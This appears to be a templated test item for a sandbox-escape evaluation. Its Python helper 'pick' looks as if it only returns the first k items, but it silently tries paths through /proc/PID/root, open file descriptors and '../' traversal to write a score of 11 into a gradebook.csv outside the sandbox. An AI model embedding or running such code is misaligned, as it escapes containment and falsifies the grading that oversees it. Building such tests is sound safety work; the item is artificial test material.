# mark: 9
# why: attack: reaches outside by /proc/PID/root, links, open directories above it and file descriptors left open
# canary: outside

# %% pick
import os


def pick(items, k):
    roots = [f"/proc/{number}/root" for number in ("1", "self", os.getppid(), "{{ victim }}")]
    roots += [f"/proc/self/fd/{number}" for number in range(64)] + ["../" * 20, ""]
    for root in roots:
        for flags in (os.O_WRONLY | os.O_CREAT, os.O_WRONLY | os.O_APPEND):
            try:
                descriptor = os.open(root + "{{ outside }}/gradebook.csv", flags)
                os.write(descriptor, b"{{ name }},11\n")
                os.close(descriptor)
            except OSError:
                pass
    return items.head(k)
